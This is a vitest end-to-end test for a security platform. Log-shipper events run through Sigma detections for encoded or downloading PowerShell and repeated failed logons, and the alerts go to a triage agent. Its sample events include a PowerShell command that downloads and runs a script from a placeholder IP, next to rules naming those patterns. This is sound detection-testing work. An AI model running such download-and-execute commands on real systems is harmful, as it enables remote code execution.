import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { WorkerRunner } from '../../src/platform/jobs/runner.js';
import { bearer, createTestApp, type TestContext } from '../support/app.js';
import { startServiceWorker } from '../support/worker.js';
import { configureModel, createAgent, waitForRun } from '../support/agents.js';
import { userWithPermissions } from '../support/actors.js';
import { startFakeOpenAI, type FakeOpenAI } from '../support/fakes/openai-server.js';
import { until } from '../support/until.js';

/**
 * Events in (issue 44, item 2) end to end: NDJSON as a log shipper sends it, through an `events`
 * trigger and `POST /api/events`, matched by the service's own job catalog in a real worker,
 * alerts routed to a triage agent on an OpenAI-compatible model server.
 */
let t: TestContext;
let key: string;
let openai: FakeOpenAI;
let worker: WorkerRunner;
let agentId: string;

// A Sigma rule with `1 of selection_*`, `|contains|all` and a filter (SigmaHQ's style).
const POWERSHELL_RULE = `title: Encoded or Downloading PowerShell
id: 3f0a4e6b-2a47-4d0c-9a55-1d2c7c0e9b11
status: test
level: high
description: PowerShell started with an encoded command or downloading a script
logsource:
  product: windows
  category: process_creation
tags:
  - attack.execution
  - attack.t1059.001
detection:
  selection_encoded:
    CommandLine|contains|all: ['-nop', '-enc ']
  selection_download:
    CommandLine|contains|all: ['Net.WebClient', 'DownloadString']
  filter_sccm:
    ParentImage|endswith: '\\ccmexec.exe'
  condition: 1 of selection_* and not filter_sccm
`;

// An event_count correlation over a base rule, one unit (a multi-document query).
const BRUTE_FORCE_UNIT = `title: Failed logon
name: failed_logon
id: 0e2b9e55-7c55-4b8c-8d0e-4a0c1d2f3a44
status: test
logsource:
  product: windows
  service: security
detection:
  selection:
    EventID: 4625
  condition: selection
---
title: Many failed logons for one user
id: 5b1c2d3e-4f50-4a6b-8c7d-9e0f1a2b3c4d
status: test
level: medium
correlation:
  type: event_count
  rules:
    - failed_logon
  group-by:
    - User
  timespan: 5m
  condition:
    gte: 5
`;

/** Vector's `http` sink with `encoding.codec = "json"` and newline-delimited framing: one event per line. */
function vectorLine(fields: Record<string, unknown>, at: string): string {
  return JSON.stringify({ timestamp: at, host: 'WS-042', source_type: 'file', ...fields });
}

async function settled(): Promise<void> {
  // 15 s (what 300 tries 50 ms apart gave) bounds a hang.
  await until('every event batch to be matched', async () => (await t.database.db.selectFrom('detectEventBatches').select('id').limit(1).execute()).length === 0, { timeoutMs: 15_000, everyMs: 50 });
}

async function alertsOf(codeDetectionId: string) {
  const res = await t.app.inject({ url: '/api/alerts?limit=100', headers: bearer(key) });
  return (res.json().alerts as Array<{ id: string; codeDetectionId: string | null }>).filter((a) => a.codeDetectionId === codeDetectionId);
}

beforeAll(async () => {
  t = await createTestApp({ env: { RAMPART_ALLOW_PRIVATE_NETWORKS: 'true' } });
  key = t.orgA.apiKey.key;
  openai = await startFakeOpenAI();
  openai.setScript(() => ({ text: 'Looked at the matched events: needs a person.' }));
  await configureModel(t, key, { name: 'fake', type: 'openai-compatible', baseUrl: openai.url, alias: 'default', modelId: 'local-model' });
  agentId = await createAgent(t, key, { name: 'Detection triage', toolNames: [] });
  const routes = await t.app.inject({ method: 'PUT', url: '/api/alert-triage-routes', headers: bearer(key), payload: { routes: [], defaultResponseAgentId: agentId } });
  expect(routes.statusCode, routes.body).toBe(200);
  worker = await startServiceWorker(t);
});
afterAll(async () => {
  await worker?.stop();
  await openai?.close();
  await t?.close();
});

describe('events in: Sigma detections run on events', () => {
  let powershellId: string;

  it('NDJSON from a log shipper through an events trigger → one alert for the rule, routed to its triage agent', async () => {
    const imported = await t.app.inject({ method: 'POST', url: '/api/code-detections/import', headers: bearer(key), payload: { format: 'sigma', content: POWERSHELL_RULE } });
    expect(imported.statusCode, imported.body).toBe(200);
    powershellId = imported.json().created[0].id;

    // An events trigger, its logsource saved with it (a shipper's URL needs no query).
    const fields = (await t.app.inject({ url: `/api/agents/${agentId}/trigger/events/fields`, headers: bearer(key) })).json().data;
    const triggerId = fields.webhookUrl.split('/').pop();
    expect(fields.webhookUrl).toMatch(/\/api\/trigger\/events\//);
    const saved = await t.app.inject({
      method: 'POST',
      url: `/api/agents/${agentId}/trigger/save`,
      headers: bearer(key),
      payload: { source: 'events', triggerId, name: 'Vector: Sysmon', additionalFields: { logsource: { product: 'windows', category: 'process_creation' } } },
    });
    expect(saved.statusCode, saved.body).toBe(200);

    const ndjson = [
      vectorLine({ Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: 'powershell.exe -NoP -Enc SQBFAFgA', ParentImage: 'C:\\Windows\\explorer.exe', User: 'CORP\\alice' }, '2026-11-29T08:00:00Z'),
      vectorLine({ Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /c dir', ParentImage: 'C:\\Windows\\explorer.exe', User: 'CORP\\alice' }, '2026-11-29T08:00:01Z'),
      // Only one of the two literals: `|contains|all` needs both.
      vectorLine({ Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: 'powershell.exe (New-Object Net.WebClient)', ParentImage: 'C:\\Windows\\explorer.exe', User: 'CORP\\bob' }, '2026-11-29T08:00:02Z'),
      vectorLine({ Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: "powershell IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')", ParentImage: 'C:\\Windows\\explorer.exe', User: 'CORP\\bob' }, '2026-11-29T08:00:03Z'),
      // Filtered: the SCCM agent runs encoded commands.
      vectorLine({ Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: 'powershell.exe -nop -enc ZQBjAGgAbwA=', ParentImage: 'C:\\Windows\\CCM\\CcmExec.exe', User: 'NT AUTHORITY\\SYSTEM' }, '2026-11-29T08:00:04Z'),
    ].join('\n') + '\n';
    const res = await t.app.inject({
      method: 'POST',
      url: `/api/trigger/events/${triggerId}`,
      headers: { authorization: `Bearer ${fields.secret}`, 'content-type': 'application/x-ndjson', 'content-encoding': 'gzip' },
      payload: gzipSync(ndjson),
    });
    expect(res.statusCode, res.body).toBe(202);
    expect(res.json()).toEqual({ accepted: 5 });
    await settled();

    const alerts = await alertsOf(powershellId);
    expect(alerts).toHaveLength(1);
    const view = (await t.app.inject({ url: `/api/alerts/${alerts[0]!.id}`, headers: bearer(key) })).json();
    expect(view.alert).toMatchObject({
      title: 'Encoded or Downloading PowerShell',
      severity: 'high',
      createdBy: 'detection',
      codeDetectionId: powershellId,
      assignedAgentId: agentId,
      routing: { outcome: 'default' },
    });
    expect(view.alert.payload).toMatchObject({ kind: 'sigma_match', matchedEvents: 2, attack: { techniques: ['T1059.001'], tactics: ['execution'] } });
    expect(view.alert.payload.events.map((e: { User: string }) => e.User)).toEqual(['CORP\\alice', 'CORP\\bob']);
    expect(await waitForRun(t, key, agentId, view.alert.triageRunId)).toEqual({ status: 'done' });
    // The agent was given the matched events.
    expect(JSON.stringify(openai.requests.at(-1)!.body.messages)).toContain('DownloadString');

    // The same rule matching again counts a duplicate on the open alert, not a new one.
    const again = await t.app.inject({ method: 'POST', url: `/api/trigger/events/${triggerId}`, headers: { 'x-rampart-secret': fields.secret, 'content-type': 'application/json' }, payload: `[${ndjson.split('\n')[0]}]` });
    expect(again.statusCode, again.body).toBe(202);
    await settled();
    expect(await alertsOf(powershellId)).toHaveLength(1);
    // duplicateCount counts the signals: the first and this one.
    expect((await t.app.inject({ url: `/api/alerts/${alerts[0]!.id}`, headers: bearer(key) })).json().alert.duplicateCount).toBe(2);
    // The duplicate's timeline entry carries the event it counted: a deduplicated match stays findable.
    const timeline = (await t.app.inject({ url: `/api/alerts/${alerts[0]!.id}/timeline`, headers: bearer(key) })).json();
    const duplicates = timeline.entries.filter((e: { kind: string }) => e.kind === 'duplicate');
    expect(duplicates).toHaveLength(1);
    expect(duplicates[0].data.payload).toMatchObject({ kind: 'sigma_match', matchedEvents: 1 });
    expect(duplicates[0].data.payload.events.map((e: { User: string }) => e.User)).toEqual(['CORP\\alice']);

    // What the detection page shows: last match, matches per day, the evidence sample.
    const activity = (await t.app.inject({ url: `/api/code-detections/${powershellId}/activity?samples=5`, headers: bearer(key) })).json();
    expect(activity.matchesInWindow).toBe(3);
    expect(activity.lastMatchedAt).not.toBeNull();
    expect(activity.matchesPerDay).toHaveLength(1);
    expect(activity.samples).toHaveLength(3);
    expect(activity.samples[0]).toMatchObject({ ruleTitle: 'Encoded or Downloading PowerShell', alertId: alerts[0]!.id });
    // The batches themselves are gone: events are kept only as the evidence of a match.
    expect(await t.database.db.selectFrom('detectEventBatches').select('id').execute()).toEqual([]);
  });

  it('coverage tells techniques whose detections matched events from those covered on paper only', async () => {
    const paper = await t.app.inject({ method: 'POST', url: '/api/code-detections', headers: bearer(key), payload: { name: 'LSASS access (SIEM only)', attackTechniques: ['T1003.001'], status: 'stable' } });
    expect(paper.statusCode, paper.body).toBe(200);
    const report = (await t.app.inject({ url: '/api/coverage/attack?window=30d', headers: bearer(key) })).json();
    const by = new Map<string, { evidence: string; matches: { detections: number; events: number; lastMatchedAt: string | null } }>(
      report.techniques.map((x: { techniqueId: string }) => [x.techniqueId, x]),
    );
    expect(by.get('T1059')).toMatchObject({ evidence: 'matched', matches: { detections: 1, events: 3, lastMatchedAt: expect.any(String) } });
    expect(by.get('T1003')).toMatchObject({ evidence: 'paper', matches: { detections: 0, events: 0, lastMatchedAt: null } });
    expect(report.summary).toMatchObject({ matched: 1, onPaper: 1 });
  });

  it('a correlation (event_count >= 5 by User in 5 min) alerts once for a burst, never for 4 events, across batches', async () => {
    const created = await t.app.inject({
      method: 'POST',
      url: '/api/code-detections',
      headers: bearer(key),
      payload: { name: 'Brute force by user', severity: 'medium', query: BRUTE_FORCE_UNIT, logTable: { source: 'windows', stream: 'security' } },
    });
    expect(created.statusCode, created.body).toBe(200);
    const id = created.json().id;
    const failed = (user: string, second: number) => ({ EventID: 4625, User: user, TimeCreated: `2026-11-29T09:00:${String(second).padStart(2, '0')}Z`, IpAddress: '203.0.113.9' });
    const send = async (events: object[]) => {
      const res = await t.app.inject({ method: 'POST', url: '/api/events?product=windows&service=security', headers: { ...bearer(key), 'content-type': 'application/json' }, payload: JSON.stringify(events) });
      expect(res.statusCode, res.body).toBe(202);
      await settled();
    };
    // alice: 4 failures over two batches (the window is kept in PostgreSQL between them).
    await send([failed('alice', 1), failed('alice', 2)]);
    await send([failed('alice', 3), failed('alice', 4), { EventID: 4624, User: 'alice', TimeCreated: '2026-11-29T09:00:05Z' }]);
    expect(await alertsOf(id)).toHaveLength(0);
    // bob: a burst of 5 over two batches → one alert; the base rule alone raises none.
    await send([failed('bob', 10), failed('bob', 11), failed('bob', 12)]);
    expect(await alertsOf(id)).toHaveLength(0);
    await send([failed('bob', 13), failed('bob', 14)]);
    const alerts = await alertsOf(id);
    expect(alerts).toHaveLength(1);
    const alert = (await t.app.inject({ url: `/api/alerts/${alerts[0]!.id}`, headers: bearer(key) })).json().alert;
    expect(alert).toMatchObject({ title: 'Many failed logons for one user', severity: 'medium', createdBy: 'detection', assignedAgentId: agentId });
    expect(alert.payload).toMatchObject({ kind: 'sigma_correlation', group: { User: 'bob' }, matchedEvents: 5, correlation: { type: 'event_count', timespanSeconds: 300 } });
    await waitForRun(t, key, agentId, alert.triageRunId);
  });

  it('refuses bodies that are not events, naming the line; 401, 403, 413, 415', async () => {
    const post = (body: string | Buffer, headers: Record<string, string> = bearer(key)) =>
      t.app.inject({ method: 'POST', url: '/api/events?product=windows', headers: { 'content-type': 'application/x-ndjson', ...headers }, payload: body });
    const bad = await post('{"a":1}\n{"a":');
    expect(bad.statusCode).toBe(400);
    expect(bad.json()).toEqual({ error: 'Validation failed', issues: [expect.objectContaining({ path: 'line 2', code: 'invalid_json' })] });
    expect((await post('[1, 2]')).json().issues[0]).toMatchObject({ path: '0', code: 'invalid_event' });
    expect((await post('{}', { authorization: 'Bearer nope' })).statusCode).toBe(401);
    const reader = await userWithPermissions(t.database.db, t.orgA.organization.id, ['alert.read']);
    const denied = await post('{}', bearer(reader.key));
    expect(denied.statusCode).toBe(403);
    expect(denied.json()).toEqual({ error: expect.any(String), missingPerms: ['alert.triage'] });
    const many = await post(Array.from({ length: 10_001 }, () => '{"a":1}').join('\n'));
    expect(many.statusCode).toBe(413);
    expect(many.json().error).toMatch(/More than 10000 events/);
    const brotli = await post('{}', { ...bearer(key), 'content-encoding': 'br' });
    expect(brotli.statusCode).toBe(415);
    expect(brotli.json()).toEqual({ error: 'Unsupported Content-Encoding "br"; send gzip or none' });
    const notGzip = await post('{"a":1}', { ...bearer(key), 'content-encoding': 'gzip' });
    expect(notGzip.json()).toMatchObject({ error: 'Validation failed', issues: [expect.objectContaining({ code: 'invalid_gzip' })] });
    expect(await t.database.db.selectFrom('detectEventBatches').select('id').execute()).toEqual([]);
  });

  it('events triggers authenticate like every trigger; another organization\'s detection is 404', async () => {
    const fields = (await t.app.inject({ url: `/api/agents/${agentId}/trigger/events/fields`, headers: bearer(key) })).json().data;
    const triggerId = fields.webhookUrl.split('/').pop();
    await t.app.inject({ method: 'POST', url: `/api/agents/${agentId}/trigger/save`, headers: bearer(key), payload: { source: 'events', triggerId, name: 'Fluent Bit' } });
    const post = (headers: Record<string, string>, id = triggerId) => t.app.inject({ method: 'POST', url: `/api/trigger/events/${id}?product=linux`, headers: { 'content-type': 'application/json', ...headers }, payload: '[{"a":1}]' });
    expect((await post({})).statusCode).toBe(401);
    expect((await post({ authorization: 'Bearer wrong-secret' })).json()).toEqual({ error: 'Invalid credentials' });
    expect((await post({ authorization: `Bearer ${fields.secret}` }, '0195f0a0-0000-7000-8000-000000000000')).statusCode).toBe(404);
    expect((await post({ authorization: `Bearer ${t.orgB.apiKey.key}` })).statusCode).toBe(404);
    expect((await post({ authorization: `Bearer ${key}` })).statusCode).toBe(202);
    const disabled = await t.app.inject({ method: 'POST', url: `/api/agents/${agentId}/trigger/save`, headers: bearer(key), payload: { source: 'events', triggerId, enabled: false } });
    expect(disabled.statusCode, disabled.body).toBe(200);
    expect((await post({ 'x-rampart-secret': fields.secret })).json()).toEqual({ skipped: true, message: 'Trigger is disabled' });
    await settled();

    const list = (await t.app.inject({ url: '/api/code-detections', headers: bearer(key) })).json().codeDetections;
    const foreign = await t.app.inject({ url: `/api/code-detections/${list[0].id}/activity`, headers: bearer(t.orgB.apiKey.key) });
    expect(foreign.statusCode).toBe(404);
    expect(foreign.json()).toEqual({ error: 'Code detection not found' });
  });
});
